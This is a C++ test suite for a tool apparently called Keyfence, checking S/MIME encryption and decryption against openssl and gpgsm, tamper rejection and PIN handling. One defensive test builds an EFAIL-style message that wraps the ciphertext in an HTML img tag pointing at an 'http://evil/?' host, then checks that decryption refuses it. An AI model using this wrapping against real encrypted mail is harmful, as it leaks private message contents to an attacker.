// smime encrypt and decrypt, judged by `openssl cms`: what Keyfence encrypts, openssl decrypts
// with a software key; what openssl encrypts, Keyfence decrypts on the token.

#include "tests/smime/smime_fixture.hpp"

namespace keyfence::test {
namespace {
namespace fs = std::filesystem;

// The message as openssl writes it: an S/MIME entity; Keyfence wants a whole message, so the
// outer headers are put in front.
std::string with_outer_headers(const std::string& smime_entity) {
    return "From: rsa2048@example.org\r\nTo: bob@example.org\r\nSubject: from openssl\r\n" +
           smime_entity;
}

TEST_F(SmimeTest, OpenSslDecryptsWhatKeyfenceEncrypts) {
    software_recipient("swrsa", "rsa");
    software_recipient("swec", "ec");
    auto in = message("m.eml", "rsa2048", "secret plans\n");
    for (const char* who : {"swrsa", "swec"}) {
        for (std::vector<std::string> extra :
             {std::vector<std::string>{}, {"--legacy-cbc"}, {"--oaep"}}) {
            std::vector<std::string> args = {
                "smime", "encrypt",   "--to",  path(std::string(who) + ".pem").string(),
                "--in",  in.string(), "--out", path("e.eml").string()};
            args.insert(args.end(), extra.begin(), extra.end());
            auto e = kf(args);
            ASSERT_EQ(e.exit_code, 0) << e.err;
            const std::string enc = read_file(path("e.eml"));
            EXPECT_NE(enc.find(extra.empty() || extra[0] == "--oaep" ? "authEnveloped-data"
                                                                     : "smime-type=enveloped-data"),
                      std::string::npos);
            EXPECT_EQ(enc.find("secret plans"), std::string::npos);
            auto d = run({"openssl", "cms", "-decrypt", "-in", path("e.eml").string(), "-inkey",
                          path(std::string(who) + ".key").string(), "-recip",
                          path(std::string(who) + ".pem").string()});
            EXPECT_EQ(d.exit_code, 0) << who << d.err;
            EXPECT_NE(d.out.find("secret plans"), std::string::npos) << who;
        }
    }
}

// Keys with CKA_ALWAYS_AUTHENTICATE (PIV 9c style) decrypt through the lease, which logs in for
// the one operation with the PIN read once from fd 3 (a second prompt would find nothing there).
TEST_F(SmimeTest, AlwaysAuthenticateKeysDecryptWithOnePinEntry) {
    write_file(path("entity"), "Content-Type: text/plain\r\n\r\nfrom openssl\r\n");
    const std::vector<std::vector<std::string>> cases = {
        {"rsa2048-always"},
        {"rsa2048-always", "-keyopt", "rsa_padding_mode:oaep"},  // OAEP SHA-1 (SoftHSM's only)
        {"ecp256-always"}};
    for (const auto& c : cases) {
        std::vector<std::string> args = {"openssl",  "cms",
                                         "-encrypt", "-aes-256-gcm",
                                         "-in",      path("entity").string(),
                                         "-out",     path("o.smime").string(),
                                         "-recip",   m_world.cert_pem(c[0])};
        args.insert(args.end(), c.begin() + 1, c.end());
        auto e = run(args);
        ASSERT_EQ(e.exit_code, 0) << e.err;
        write_file(path("o.eml"), with_outer_headers(read_file(path("o.smime"))));
        auto d = kf({"smime", "decrypt", "--key", key(c[0]), "--in", path("o.eml").string(),
                     "--out", path("d.eml").string()});
        ASSERT_EQ(d.exit_code, 0) << c.size() << " " << c[0] << d.err;
        EXPECT_NE(read_file(path("d.eml")).find("from openssl"), std::string::npos);
    }
}

TEST_F(SmimeTest, KeyfenceDecryptsWhatOpenSslEncryptsOnTheToken) {
    write_file(path("entity"), "Content-Type: text/plain\r\n\r\nfrom openssl\r\n");
    for (const char* cipher : {"-aes-256-cbc", "-aes-256-gcm"}) {
        for (const char* label : {"rsa2048", "ecp256", "ecp384"}) {
            auto e = run({"openssl", "cms", "-encrypt", cipher, "-in", path("entity").string(),
                          "-out", path("o.smime").string(), m_world.cert_pem(label)});
            ASSERT_EQ(e.exit_code, 0) << e.err;
            write_file(path("o.eml"), with_outer_headers(read_file(path("o.smime"))));
            auto d = kf({"smime", "decrypt", "--key", key(label), "--in", path("o.eml").string(),
                         "--out", path("d.eml").string()});
            ASSERT_EQ(d.exit_code, 0) << cipher << " " << label << d.err;
            EXPECT_NE(read_file(path("d.eml")).find("from openssl"), std::string::npos);
            EXPECT_NE(d.out.find(std::string(cipher) == "-aes-256-gcm" ? "integrity-protected and"
                                                                       : "NOT integrity"),
                      std::string::npos)
                << d.out;
        }
    }
    // RSA-OAEP key transport, decrypted on the token.
    auto e = run({"openssl", "cms", "-encrypt", "-aes-256-gcm", "-in", path("entity").string(),
                  "-out", path("o.smime").string(), "-recip", m_world.cert_pem("rsa2048"),
                  "-keyopt", "rsa_padding_mode:oaep"});
    ASSERT_EQ(e.exit_code, 0) << e.err;
    write_file(path("o.eml"), with_outer_headers(read_file(path("o.smime"))));
    auto d = kf({"smime", "decrypt", "--key", key("rsa2048"), "--in", path("o.eml").string()});
    EXPECT_EQ(d.exit_code, 0) << d.err;
    EXPECT_NE(d.out.find("from openssl"), std::string::npos);
}

TEST_F(SmimeTest, SignedThenEncryptedIsDecryptedAndVerifiedInOneCall) {
    auto in = message("m.eml", "rsa2048", "signed and sealed\n");
    ASSERT_EQ(kf({"smime", "sign", "--key", key("rsa2048"), "--in", in.string(), "--out",
                  path("s.eml").string()})
                  .exit_code,
              0);
    ASSERT_EQ(kf({"certs", "add", m_world.cert_pem("ecp256")}).exit_code, 0);
    auto e = kf({"smime", "encrypt", "--to", "ecp256@example.org", "--key", key("rsa2048"), "--in",
                 path("s.eml").string(), "--out", path("se.eml").string()});
    ASSERT_EQ(e.exit_code, 0) << e.err;
    for (const char* label : {"ecp256", "rsa2048"}) {  // the recipient, and the sender's copy
        auto d = kf({"smime", "decrypt", "--key", key(label), "--ca", m_world.ca_pem(), "--in",
                     path("se.eml").string(), "--out", path("d.eml").string()});
        ASSERT_EQ(d.exit_code, 0) << label << d.err << d.out;
        EXPECT_NE(d.out.find("Result: VERIFIED"), std::string::npos) << d.out;
        auto v = kf({"smime", "verify", "--ca", m_world.ca_pem(), "--in", path("d.eml").string()});
        EXPECT_EQ(v.exit_code, 0) << v.out;
    }
}

TEST_F(SmimeTest, TamperedGcmCiphertextYieldsNoPlaintextAtAll) {
    auto in = message("m.eml", "rsa2048", std::string(2000, 'x') + "\n");
    ASSERT_EQ(kf({"smime", "encrypt", "--to", m_world.cert_pem("rsa2048"), "--in", in.string(),
                  "--out", path("e.eml").string()})
                  .exit_code,
              0);
    // Flip one character of the base64 body near its end (inside the ciphertext).
    std::string enc = read_file(path("e.eml"));
    std::size_t pos = enc.size() - 300;  // inside the ciphertext, before the tag
    while (enc[pos] == '\r' || enc[pos] == '\n') --pos;
    enc[pos] = enc[pos] == 'B' ? 'C' : 'B';
    write_file(path("t.eml"), enc);
    write_file(path("d.eml"), "old");
    auto d = kf({"smime", "decrypt", "--key", key("rsa2048"), "--in", path("t.eml").string(),
                 "--out", path("d.eml").string()});
    EXPECT_NE(d.exit_code, 0);
    EXPECT_EQ(read_file(path("d.eml")), "old");
    EXPECT_EQ(d.out.find("xxxx"), std::string::npos);
    auto stdout_run =
        kf({"smime", "decrypt", "--key", key("rsa2048"), "--in", path("t.eml").string()});
    EXPECT_NE(stdout_run.exit_code, 0);
    EXPECT_EQ(stdout_run.out.find("xxxx"), std::string::npos) << "no plaintext on stdout";
}

TEST_F(SmimeTest, NoMatchingRecipientFailsBeforeThePin) {
    auto in = message("m.eml", "rsa2048");
    ASSERT_EQ(kf({"smime", "encrypt", "--to", m_world.cert_pem("ecp256"), "--in", in.string(),
                  "--out", path("e.eml").string()})
                  .exit_code,
              0);
    // No PIN on fd 3: a prompt would fail differently.
    auto d = run_keyfence(m_world,
                          {"--pin-fd", "3", "smime", "decrypt", "--key", key("rsa2048"), "--in",
                           path("e.eml").string(), "--out", path("d.eml").string()},
                          {.env = env(), .fd3_data = ""});
    EXPECT_EQ(d.exit_code, 5) << d.err;
    EXPECT_NE(d.err.find("not encrypted to"), std::string::npos) << d.err;
    EXPECT_FALSE(fs::exists(path("d.eml")));
}

TEST_F(SmimeTest, OnlyAWholeEncryptedBodyIsDecrypted) {
    auto in = message("m.eml", "rsa2048", "inner\n");
    ASSERT_EQ(kf({"smime", "encrypt", "--to", m_world.cert_pem("rsa2048"), "--in", in.string(),
                  "--out", path("e.eml").string()})
                  .exit_code,
              0);
    // EFAIL: an attacker wraps the encrypted part between parts of their own.
    std::string e = read_file(path("e.eml"));
    const std::size_t ct = e.find("Content-Type: application/pkcs7-mime");
    write_file(path("w.eml"), e.substr(0, ct) +
                                  "Content-Type: multipart/mixed; boundary=\"b\"\r\n\r\n--b\r\n"
                                  "Content-Type: text/html\r\n\r\n<img src=\"http://evil/?\r\n"
                                  "--b\r\n" +
                                  e.substr(ct) + "\r\n--b--\r\n");
    auto d = kf({"smime", "decrypt", "--key", key("rsa2048"), "--in", path("w.eml").string()});
    EXPECT_EQ(d.exit_code, 7) << d.err;
    EXPECT_NE(d.err.find("EFAIL"), std::string::npos) << d.err;
    EXPECT_EQ(d.out.find("inner"), std::string::npos);
}

}  // namespace
}  // namespace keyfence::test

namespace keyfence::test {
namespace {

// gpgsm (GnuPG's S/MIME tool) encrypts, in a private GNUPGHOME that trusts the test CA, to the
// token key's certificate; Keyfence decrypts on the token.
TEST_F(SmimeTest, KeyfenceDecryptsWhatGpgsmEncrypts) {
    const auto home = gpgsm_home();
    const ProcessOptions& gpg = home->options;
    ASSERT_EQ(run({"gpgsm", "--batch", "--import", m_world.cert_pem("rsa2048")}, gpg).exit_code, 0);

    write_file(path("entity.txt"),
               "Content-Type: text/plain; charset=utf-8\r\n\r\n"
               "Encrypted by gpgsm, opened on the token.\r\n");
    auto enc =
        run({"gpgsm", "--batch", "--disable-crl-checks", "--base64", "--encrypt", "-r",
             "rsa2048@example.org", "-o", path("enc.b64").string(), path("entity.txt").string()},
            gpg);
    ASSERT_EQ(enc.exit_code, 0) << enc.err;
    write_file(path("sealed.eml"),
               "From: bob@example.org\r\nTo: rsa2048@example.org\r\nSubject: from gpgsm\r\n"
               "MIME-Version: 1.0\r\nContent-Type: application/pkcs7-mime; "
               "smime-type=enveloped-data; name=smime.p7m\r\nContent-Transfer-Encoding: base64\r\n"
               "Content-Disposition: attachment; filename=smime.p7m\r\n\r\n" +
                   read_file(path("enc.b64")));
    auto dec = kf({"smime", "decrypt", "--key", key("rsa2048"), "--in", path("sealed.eml").string(),
                   "--out", path("opened.eml").string()});
    ASSERT_EQ(dec.exit_code, 0) << dec.err << dec.out;
    EXPECT_NE(read_file(path("opened.eml")).find("Encrypted by gpgsm, opened on the token."),
              std::string::npos);
    EXPECT_NE(read_file(path("opened.eml")).find("Subject: from gpgsm"), std::string::npos);
}

}  // namespace
}  // namespace keyfence::test
